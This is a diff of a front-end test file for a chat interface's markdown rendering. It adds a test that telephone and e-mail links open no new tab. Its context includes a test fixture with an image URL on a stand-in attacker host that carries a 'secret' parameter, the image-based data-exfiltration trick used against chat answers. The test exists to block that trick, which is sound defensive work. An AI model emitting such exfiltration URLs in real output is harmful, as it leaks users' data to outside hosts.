@@ -32,6 +32,12 @@ describe('links and images in an answer', () => {
     expect(link.innerText).to.equal('the table');
   });
 
+  it('open no tab for telephone numbers and e-mail addresses', async () => {
+    const chat = await openWithAnswer('Call [us](tel:+4930123456) or [write](mailto:a@b.example).');
+    for (const link of chat.findAll('.markdown a') as HTMLAnchorElement[])
+      expect([link.target, link.title], link.href).to.deep.equal(['', '']);
+  });
+
   it('show images of allowed origins, with alternative text and lazily, and others as links', async () => {
     const chat = await openWithAnswer(
       `![A pixel](${location.origin}/pixel.png) ![Another](https://evil.example/collect?secret=1)`,
